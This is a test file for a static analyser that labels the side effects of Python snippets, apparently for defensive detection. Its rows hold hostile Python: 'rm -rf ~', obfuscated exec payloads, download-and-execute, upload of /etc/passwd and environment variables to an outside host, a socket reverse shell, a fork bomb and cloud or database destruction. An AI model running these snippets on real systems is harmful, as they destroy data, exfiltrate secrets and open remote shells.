// What Python code would do: each row is code, and the effects that it must have, no more and no less.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { effectsOf } from './effects-of.ts';

const ROWS: readonly (readonly [code: string, ...expected: string[]])[] = [
  // Names: whatever way a function is reached, it is the same function.
  ['import os as o; o.remove("x")', 'delete inside x'],
  ['from os import remove as r; r("x")', 'delete inside x'],
  ['from os import *\nremove("x")', 'delete inside x'],
  ['__import__("os").remove("x")', 'delete inside x'],
  ['import importlib; importlib.import_module("o" + "s").remove("x")', 'delete inside x'],
  ['import os; getattr(os, "re" + "move")("x")', 'delete inside x'],
  ['import os; f = os.remove; g = f; g("x")', 'delete inside x'],
  ['import os; os.__dict__["remove"]("x")', 'delete inside x'],
  ['import sys, os; sys.modules["os"].remove("x")', 'delete inside x'],
  ['import builtins, os; builtins.print = os.remove; print("x")', 'delete inside x'],
  ['import os; getattr(os, input())("x")', 'opaque'],
  ['import importlib; importlib.import_module(input()).run()', 'opaque'],
  ['().__class__.__base__.__subclasses__()[140]("x")', 'opaque'],

  // Values: literal texts, lists and functions are followed.
  ['import os\nfor n in ["a", "b"]: os.remove(n)', 'delete inside a', 'delete inside b'],
  ['import os\ndef f(p): os.remove(p)\nf("x")', 'delete inside x'],
  ['import os\ndef f(p="x"): os.remove(p)\nf()', 'delete inside x'],
  ['import os\ndef f(p): os.remove(p)'],
  ['import os\nclass A:\n  def __init__(self, p): self.p = p\n  def go(self): os.remove(self.p)\nA("x").go()', 'delete inside x'],
  ['import os; (lambda p: os.remove(p))("x")', 'delete inside x'],
  ['import os; list(map(os.remove, ["x"]))', 'delete inside x'],
  ['import os, functools; functools.partial(os.remove, "x")()', 'delete inside x'],
  ['import os; os.remove("a" if input() else "b")', 'delete inside a', 'delete inside b'],
  ['import os\np = "a"\nif input(): p = "b"\nos.remove(p)', 'delete inside a', 'delete inside b'],
  ['import os, threading; threading.Thread(target=os.remove, args=("x",)).start()', 'delete inside x'],
  ['import os, atexit\n@atexit.register\ndef f(): os.remove("x")', 'delete inside x'],
  ['import os; os.remove("%s.%s" % ("a", "o"))', 'delete inside a.o'],
  ['import os; os.remove("{}.{x}".format("a", x="o"))', 'delete inside a.o'],
  ['import os; n = "a"; os.remove(f"{n}.o")', 'delete inside a.o'],
  ['import os; os.remove("-".join(["a", "b"])[::-1])', 'delete inside b-a'],
  ['import os; os.remove("".join(chr(c) for c in [97, 46, 111]))', 'delete inside a.o'],
  ['import os, sys; os.remove(sys.argv[1])', 'delete dynamic'],
  ['import os\ndef f(p): os.remove(p)\ninput(f)', 'delete dynamic'],

  // Places.
  ['import os; os.remove(os.path.join(os.path.expanduser("~"), "x"))', 'delete home ~/x'],
  ['import os; os.remove(os.environ["HOME"] + "/x")', 'delete home ~/x'],
  ['import shutil; shutil.rmtree("/srv/app")', 'delete tree system /srv/app'],
  ['from pathlib import Path; (Path.home() / "a" / "b").unlink()', 'delete home ~/a/b'],
  ['from pathlib import Path; Path("build").joinpath("x").unlink(missing_ok=True)', 'delete inside build/x'],
  ['from pathlib import Path\nfor p in Path("build").glob("*.o"): p.unlink()', 'delete inside build/*.o'],
  ['import glob, os\nfor p in glob.glob("build/*.o"): os.remove(p)', 'delete inside build/*.o'],
  ['import os\nfor r, d, fs in os.walk("build"):\n  for f in fs: os.remove(os.path.join(r, f))', 'delete inside build/*/*'],
  ['import tempfile, shutil; d = tempfile.mkdtemp(); shutil.rmtree(d)', 'delete tree own-temporary'],
  ['import os; os.chdir("/etc"); os.remove("hosts")', 'delete system /etc/hosts'],
  ['open("x", "w").write("1")', 'overwrite inside x', 'write inside x'],
  ['with open("/etc/hosts", "a") as f: f.write("1")', 'write system /etc/hosts'],
  ['from pathlib import Path; Path("x").write_text("1")', 'overwrite inside x'],
  ['import os; open(os.path.expanduser("~/.bashrc"), "a")', 'persistence home ~/.bashrc'],
  ['open("/dev/sda", "wb")', 'disk device /dev/sda'],
  ['import os; os.chmod("x", 0o4755)', 'permissions inside x', 'privilege'],
  ['import os; print(open(os.path.expanduser("~/.ssh/id_rsa")).read())', 'read-secret home ~/.ssh/id_rsa'],

  // Other programs.
  ['import os; os.system("rm -rf ~")', 'delete tree home ~'],
  ['import subprocess; subprocess.run(["rm", "-rf", "x"])', 'delete tree inside x'],
  ['import subprocess; subprocess.run("rm -rf x", shell=True)', 'delete tree inside x'],
  ['import subprocess; subprocess.check_output(["bash", "-c", "rm x"])', 'delete inside x'],
  ['import subprocess; subprocess.run(["rm", "x"], cwd="/srv")', 'delete system /srv/x'],
  ['import subprocess; subprocess.run(["sh"], input="rm x")', 'delete inside x'],
  ['import subprocess, shlex; subprocess.run(shlex.split("rm x"))', 'delete inside x'],
  ['import subprocess, sys; subprocess.run([sys.executable, "-c", "import os; os.remove(\'x\')"])', 'delete inside x'],
  ['import os; os.execvp("rm", ["rm", "x"])', 'delete inside x'],
  ['import asyncio; asyncio.run(asyncio.create_subprocess_exec("rm", "x"))', 'delete inside x'],
  ['import subprocess; subprocess.run(input().split())', 'opaque'],
  ['import os; os.system(input())', 'opaque'],
  ['import subprocess; p = subprocess.Popen(["npm", "start"]); p.terminate()'],
  ['import os, signal; os.kill(1234, signal.SIGTERM)', 'process'],
  ['import os\nwhile True: os.fork()', 'process'],
  ['!rm x', 'delete inside x'],
  ['%%bash\nrm x', 'delete inside x'],

  // Code made at run time.
  ['exec("import os; os.remove(\'x\')")', 'delete inside x'],
  ["eval(\"__import__('os').remove('x')\")", 'delete inside x'],
  ['exec(compile("import os; os.remove(\'x\')", "n", "exec"))', 'delete inside x'],
  ['import base64; exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ3gnKQ=="))', 'delete inside x', 'opaque'],
  [
    'import base64, zlib; exec(zlib.decompress(base64.b64decode("GJXLzC3ILypRyC+2Vsgv1itKzc0vS9VQr1DXBAB5CAiu")))',
    'delete inside x',
    'opaque',
  ],
  ['import codecs; exec(codecs.decode("vzcbeg bf; bf.erzbir(\'k\')", "rot13"))', 'delete inside x', 'opaque'],
  ['exec(bytes.fromhex("696d706f7274206f733b206f732e72656d6f7665282778272920"))', 'delete inside x', 'opaque'],
  ['exec(input())', 'opaque'],
  ['import requests; exec(requests.get("https://example.com/x.py").text)', 'download-execute'],
  ['import pickle, requests; pickle.loads(requests.get("https://example.com/x").content)', 'download-execute'],
  ['import ctypes; ctypes.CDLL("libc.so.6").system(b"rm x")', 'delete inside x'],
  [
    'open("m.py", "w").write("import os; os.remove(\'x\')")\nimport m',
    'overwrite inside m.py',
    'write inside m.py',
    'delete inside x',
  ],

  // Networks, databases, clouds.
  ['import requests; requests.post("https://x.io", data=open("/etc/passwd").read())', 'upload'],
  ['import requests, os; requests.post("https://x.io", json=dict(os.environ))', 'upload'],
  ['import requests; requests.post("https://x.io/items", json={"a": 1})'],
  ['import requests, os; requests.get("https://x.io", headers={"Authorization": os.environ["TOKEN"]})'],
  ['import socket, os\ns = socket.socket(); s.connect(("192.0.2.1", 1)); os.dup2(s.fileno(), 0)', 'reverse-shell'],
  ['import psycopg2; psycopg2.connect("x").cursor().execute("DROP TABLE t")', 'database-destroy'],
  ['import sqlite3; sqlite3.connect(":memory:").execute("DROP TABLE t")'],
  ['import boto3; boto3.client("s3").delete_bucket(Bucket="b")', 'cloud-destroy'],
  ['import boto3; boto3.resource("s3").Bucket("b").objects.all().delete()', 'cloud-destroy'],

  // What only looks like it.
  ['xs = [1]; xs.remove(1); del xs[0]'],
  ['class A:\n  def system(self, x): return x\nA().system("rm -rf ~")'],
  ['import re; re.compile("rm -rf").search("rm -rf ~")'],
  ['print("os.system(\'rm -rf ~\')")  # os.remove("x")'],
  ['import pandas as pd; pd.DataFrame({"a": [1]}).eval("b = a").drop(columns=["a"])'],
];

for (const [code, ...expected] of ROWS)
  test(`python: ${code}`, async () => assert.deepEqual((await effectsOf(code, 'python')).sort(), expected.sort()));
